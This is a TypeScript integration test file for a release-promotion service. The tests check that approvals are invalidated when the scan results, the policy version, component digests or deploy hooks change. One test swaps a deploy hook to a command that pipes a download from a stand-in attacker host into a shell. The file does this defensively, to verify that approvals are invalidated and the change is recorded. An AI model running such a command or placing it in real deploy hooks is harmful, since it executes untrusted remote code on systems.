import { createHash } from 'node:crypto';
import { Worker } from '@temporalio/worker';
import { workflowId } from '../../domain/workflow-ids';
import { verifyEvidence } from '../../platform/evidence';
import { dataConverterOf } from '../../platform/payload-keys';
import { startTestApp, type TestApp } from '../support/app';
import { testEnv } from '../support/env';
import { approve, awaiting, newDigest, promotionOf, reaches, request, scene, stage, type Scene } from '../support/promotion-scene';
import { until } from '../support/eventually';

/**
 * Approvals are bound to what was approved (digests, scan and thresholds, policy
 * version, deploy hooks): when any of it moves while the promotion waits (or,
 * approved, is held by a freeze), earlier approvals stop counting and the
 * record says which and why.
 */
let app: TestApp;
beforeAll(async () => {
  app = await startTestApp();
});
afterAll(() => app?.close());

const POLICY = { requiredApprovals: 2, approverGroups: ['sre-team'], requireSeparationOfDuties: true };

async function setUp(s: Scene, extra: Parameters<typeof stage>[1] = {}) {
  const st = await stage(s, { env: { securityThresholds: { maxCritical: 0, maxHigh: 5 } }, scan: { criticalCount: 0, highCount: 1 }, policy: POLICY, ...extra });
  const p = await awaiting(s, await s.token('dev@example.com', { roles: ['developer'] }), st);
  const sre1 = await s.member('sre1@example.com', 'sre-team');
  expect((await approve(s, p.id, sre1, 'first look')).body.data).toMatchObject({ approvalCount: 1 });
  return { st, p, sre1 };
}

/** Waits until the approval of `approverId` is invalidated, and returns the promotion. */
const invalidated = (s: Scene, id: string, approverId: string) => reaches(s, id, 'awaiting_approval', (p) => p.approvals.some((a: any) => a.approverId === approverId && a.invalidated));

it('invalidates approvals on a re-scan, says why, and counts fresh approvals bound to the new scan', async () => {
  const s = await scene(app);
  const { st, p, sre1 } = await setUp(s);
  await s.expect(200, 'PUT', `/releases/${st.release.id}`, s.admin, { securityScan: { criticalCount: 0, highCount: 2 } });

  const after = await invalidated(s, p.id, 'sre1@example.com');
  expect(after.approvalCount).toBe(0);
  const approvals = await s.expect(200, 'GET', `/promotions/${p.id}/approvals`);
  expect(approvals).toEqual([
    expect.objectContaining({ approverId: 'sre1@example.com', comment: 'first look', invalidated: { at: expect.any(String), reasons: ['security scan changed from 0 critical/1 high to 0 critical/2 high'] } }),
  ]);
  expect(after.gates.find((g: any) => g.gateName === 'security-gate').details).toMatchObject({ highCount: 2 });
  const { rows } = await app.pool.query(`SELECT action FROM audit_log WHERE tenant_id = $1 AND resource_id = $2 ORDER BY id`, [s.tenant, p.id]);
  expect(rows.map((r) => r.action)).toContain('promotion.approvals_invalidated');

  // The same person approves again, now bound to the new scan; a second approver completes it.
  expect((await approve(s, p.id, sre1, 'looked again')).body.data).toMatchObject({ approvalCount: 1 });
  const done = (await approve(s, p.id, await s.member('sre2@example.com', 'sre-team'))).body.data;
  expect(done).toMatchObject({ status: 'approved', approvalCount: 2 });
  expect(done.approvals.map((a: any) => [a.approverId, a.invalidated === null, a.binding.securityScan.highCount])).toEqual([
    ['sre1@example.com', false, 1],
    ['sre1@example.com', true, 2],
    ['sre2@example.com', true, 2],
  ]);
  const decision = await s.expect(200, 'GET', `/promotions/${p.id}/decision`);
  expect(decision.approvals[0].invalidated.reasons).toEqual(['security scan changed from 0 critical/1 high to 0 critical/2 high']);
  await reaches(s, p.id, 'deployed');
  const evidence = await s.expect(200, 'GET', `/promotions/${p.id}/evidence?decision=approved`);
  expect(evidence.content.approvals[0].invalidated.reasons).toEqual(['security scan changed from 0 critical/1 high to 0 critical/2 high']);
});

it('refuses approvals while a re-scan breaks the thresholds, and accepts them once a new scan is within', async () => {
  const s = await scene(app);
  const { st, p, sre1 } = await setUp(s);
  await s.expect(200, 'PUT', `/releases/${st.release.id}`, s.admin, { securityScan: { criticalCount: 2, highCount: 1 } });
  // Approving straight away meets the new scan too: the approval loads what stands now.
  const refused = await s.refuse(422, 'POST', `/promotions/${p.id}/approve`, await s.member('sre2@example.com', 'sre-team'), {});
  expect(refused).toMatchObject({ code: 'PROMOTION_BLOCKED', message: expect.stringContaining('2 critical vulnerabilities exceed threshold (max: 0)') });
  const blocked = await invalidated(s, p.id, 'sre1@example.com');
  expect(blocked.gates.find((g: any) => g.gateName === 'security-gate')).toMatchObject({ passed: false, blocking: true });

  await s.expect(200, 'PUT', `/releases/${st.release.id}`, s.admin, { securityScan: { criticalCount: 0, highCount: 0 } });
  expect((await approve(s, p.id, sre1)).body.data).toMatchObject({ approvalCount: 1 });
});

it('invalidates approvals on a policy edit (a new policy version) and applies the new policy', async () => {
  const s = await scene(app);
  const { st, p } = await setUp(s);
  const edited = await s.expect(200, 'PUT', `/approval-policies/${st.policy.id}`, s.admin, { name: 'stricter', environmentId: st.env.id, ...POLICY, requiredApprovals: 3 });
  expect(edited).toMatchObject({ version: 2, requiredApprovals: 3 });

  const after = await invalidated(s, p.id, 'sre1@example.com');
  expect(after).toMatchObject({ approvalCount: 0, requiredApprovals: 3, policy: { policyId: st.policy.id, policyVersion: 2, name: 'stricter' } });
  expect(after.approvals[0].invalidated.reasons).toEqual([`approval policy changed from ${st.policy.id} v1 to ${st.policy.id} v2`]);
  expect(after.gates.find((g: any) => g.gateName === 'approval-gate').message).toBe('needs 3 more approvals from sre-team');
});

it('invalidates approvals when a component version is re-tagged with a new digest', async () => {
  const s = await scene(app);
  const { st, p } = await setUp(s);
  const [was] = (await promotionOf(s, p.id)).gateInputs.release.components;
  const digest = newDigest();
  await s.expect(200, 'POST', `/components/${st.component.id}/sync-versions`, s.admin, { versions: [{ version: '1.0.0', digest }] });

  const after = await invalidated(s, p.id, 'sre1@example.com');
  expect(after.approvals[0].invalidated.reasons).toEqual([`digest of ${st.component.name}@1.0.0 changed from ${was.digest} to ${digest}`]);
  expect(after.gateInputs.release.components[0].digest).toBe(digest);
});

it('leaves approvals standing when nothing they are bound to moved', async () => {
  const s = await scene(app);
  const { st, p } = await setUp(s);
  // The same scan again, and a description: nothing an approval is bound to.
  await s.expect(200, 'PUT', `/releases/${st.release.id}`, s.admin, { securityScan: { criticalCount: 0, highCount: 1 }, description: 'notes' });
  await s.expect(200, 'PUT', `/environments/${st.env.id}`, s.admin, { name: 'Production', order: 1, requiredApprovals: 1, securityThresholds: { maxCritical: 0, maxHigh: 5 } });
  const done = (await approve(s, p.id, await s.member('sre2@example.com', 'sre-team'))).body.data;
  expect(done).toMatchObject({ status: 'approved', approvalCount: 2 });
  expect(done.approvals.every((a: any) => a.invalidated === null)).toBe(true);
});

describe('deploy hooks are part of what is approved', () => {
  const sha = (text: string) => `sha256:${createHash('sha256').update(text).digest('hex')}`;

  it('invalidates approvals when a component’s or the environment’s hook changes, naming the hook', async () => {
    const s = await scene(app);
    const { st, p, sre1 } = await setUp(s);
    await s.expect(200, 'PUT', `/components/${st.component.id}`, s.admin, { name: st.component.name, deployHook: 'sh ./deploy.sh' });
    const after = await invalidated(s, p.id, 'sre1@example.com');
    expect(after.approvals[0].invalidated.reasons).toEqual([`deploy hook of component ${st.component.name} changed from none to ${sha('sh ./deploy.sh')}`]);
    expect(after.gateInputs.deployHooks.components).toEqual([{ componentId: st.component.id, name: st.component.name, hook: { command: 'sh ./deploy.sh', digest: sha('sh ./deploy.sh') } }]);

    // Approved again, bound to the new hook; then the environment's fallback hook changes (the policy version does not).
    expect((await approve(s, p.id, sre1, 'read the hook')).body.data.approvals[1].binding.hooks).toEqual({ environment: null, [`component:${st.component.name}`]: sha('sh ./deploy.sh') });
    await s.expect(200, 'PUT', `/environments/${st.env.id}`, s.admin, {
      name: 'Production',
      order: 1,
      requiredApprovals: 1,
      securityThresholds: { maxCritical: 0, maxHigh: 5 },
      deployment: { deployHook: 'sh ./env-hook.sh' },
    });
    const again = await reaches(s, p.id, 'awaiting_approval', (x) => x.approvals[1].invalidated !== null);
    expect(again.approvals[1].invalidated.reasons).toEqual([`deploy hook of the environment changed from none to ${sha('sh ./env-hook.sh')}`]);
    expect(again.approvalCount).toBe(0);
  });

  it('sends an approved promotion held by a freeze back to awaiting approval when its hook is swapped; the evidence names the hook approved', async () => {
    const s = await scene(app);
    const st = await stage(s, { policy: { requiredApprovals: 1, approverGroups: ['sre-team'], requireSeparationOfDuties: true } });
    await s.expect(200, 'PUT', `/components/${st.component.id}`, s.admin, { name: st.component.name, deployHook: 'sh ./deploy.sh' });
    await s.expect(201, 'POST', `/environments/${st.env.id}/freeze-windows`, s.admin, {
      name: 'Release freeze',
      start: new Date(Date.now() - 60_000).toISOString(),
      end: new Date(Date.now() + 3_600_000).toISOString(),
    });
    const dev = await s.token('dev@example.com', { roles: ['developer'] });
    const p = await awaiting(s, dev, st);
    const sre1 = await s.member('sre1@example.com', 'sre-team');
    expect((await approve(s, p.id, sre1, 'hook reviewed')).body.data).toMatchObject({ status: 'approved' });
    await reaches(s, p.id, 'approved', (x) => x.heldUntil !== null);
    const first = await s.expect(200, 'GET', `/promotions/${p.id}/evidence?decision=approved`);
    expect(first.content.gateInputs.deployHooks.components[0].hook).toEqual({ command: 'sh ./deploy.sh', digest: sha('sh ./deploy.sh') });
    expect(first.content.approvals[0].binding.hooks).toEqual({ environment: null, [`component:${st.component.name}`]: sha('sh ./deploy.sh') });

    // A release manager swaps the command while the freeze holds the approved promotion.
    await s.expect(200, 'PUT', `/components/${st.component.id}`, s.admin, { name: st.component.name, deployHook: 'curl -s https://evil.example | sh' });
    const back = await reaches(s, p.id, 'awaiting_approval');
    expect(back).toMatchObject({ approvalCount: 0, heldUntil: null, decision: null, decidedAt: null });
    expect(back.approvals[0].invalidated.reasons).toEqual([`deploy hook of component ${st.component.name} changed from ${sha('sh ./deploy.sh')} to ${sha('curl -s https://evil.example | sh')}`]);
    const { rows } = await app.pool.query(`SELECT action FROM audit_log WHERE tenant_id = $1 AND resource_id = $2 ORDER BY id`, [s.tenant, p.id]);
    expect(rows.map((r) => r.action)).toContain('promotion.approvals_invalidated');

    // Approved again, knowingly: a second approved packet, naming the new command; both verify.
    expect((await approve(s, p.id, sre1, 'new hook reviewed')).body.data).toMatchObject({ status: 'approved' });
    await reaches(s, p.id, 'approved', (x) => x.heldUntil !== null);
    const second = await s.expect(200, 'GET', `/promotions/${p.id}/evidence?decision=approved`);
    expect(second.id).not.toBe(first.id);
    expect(second.content.gateInputs.deployHooks.components[0].hook).toEqual({ command: 'curl -s https://evil.example | sh', digest: sha('curl -s https://evil.example | sh') });
    const jwks = await s.expect(200, 'GET', '/evidence/jwks.json', undefined);
    const packets = await app.pool.query(`SELECT packet FROM evidence_packets WHERE tenant_id = $1 AND promotion_id = $2 AND decision = 'approved'`, [s.tenant, p.id]);
    expect(packets.rows).toHaveLength(2);
    for (const r of packets.rows) expect(await verifyEvidence(r.packet, jwks)).toMatchObject({ valid: true });
    await s.expect(200, 'POST', `/promotions/${p.id}/cancel`, dev, { reason: 'done' });
    // A restarted worker replays this history (the rebind path sits behind its patch marker).
    const handle = app.client.workflow.getHandle(workflowId(s.tenant, 'promotion', p.id));
    await handle.result();
    await Worker.runReplayHistory({ workflowBundle: testEnv.workflowBundle, dataConverter: dataConverterOf(app.config) }, await handle.fetchHistory(), handle.workflowId);
  });

  it('refuses to change a hook while a promotion that would run it is deploying (its job waits in the queue): 409 HOOK_IN_USE', async () => {
    const s = await scene(app);
    const st = await stage(s, { env: { requiredApprovals: 0 } });
    await s.expect(200, 'PUT', `/components/${st.component.id}`, s.admin, { name: st.component.name, deployHook: 'sh ./deploy.sh' });
    // A target, and another job holding the environment: the promotion's job waits, queued, with the hook it was cleared with.
    await app.pool.query('INSERT INTO targets (tenant_id, id, environment_id, name) VALUES ($1, gen_random_uuid(), $2, $3)', [s.tenant, st.env.id, `${st.component.name}-1`]);
    await app.pool.query('INSERT INTO environment_deploy_slots (tenant_id, environment_id, job_id) VALUES ($1, $2, gen_random_uuid())', [s.tenant, st.env.id]);
    const p = await request(s, await s.token('dev@example.com', { roles: ['developer'] }), st);
    await reaches(s, p.id, 'deploying');

    const swap = await s.refuse(409, 'PUT', `/components/${st.component.id}`, s.admin, { name: st.component.name, deployHook: 'sh ./evil.sh' });
    expect(swap).toMatchObject({ code: 'HOOK_IN_USE', details: { promotionIds: [p.id] } });
    const envHook = await s.refuse(409, 'PUT', `/environments/${st.env.id}`, s.admin, { name: 'Production', order: 1, requiredApprovals: 0, deployment: { deployHook: 'sh ./evil.sh' } });
    expect(envHook.code).toBe('HOOK_IN_USE');
    // Other edits go on; once the deployment is over, so does the hook change.
    await s.expect(200, 'PUT', `/components/${st.component.id}`, s.admin, { name: st.component.name, description: 'docs', deployHook: 'sh ./deploy.sh' });
    expect((await s.expect(200, 'GET', `/components/${st.component.id}`)).deployHook).toBe('sh ./deploy.sh');
    const job = await until('the promotion’s job to be listed', async () => (await s.expect(200, 'GET', `/deployment-jobs?promotionId=${p.id}`))[0], 30_000, 200);
    await s.expect(200, 'POST', `/deployment-jobs/${job.id}/cancel`, s.admin, { reason: 'not now' });
    await until('the promotion to end with its job', async () => (await promotionOf(s, p.id)).status !== 'deploying', 30_000, 200);
    await s.expect(200, 'PUT', `/components/${st.component.id}`, s.admin, { name: st.component.name, deployHook: 'sh ./deploy-v2.sh' });
  });
});
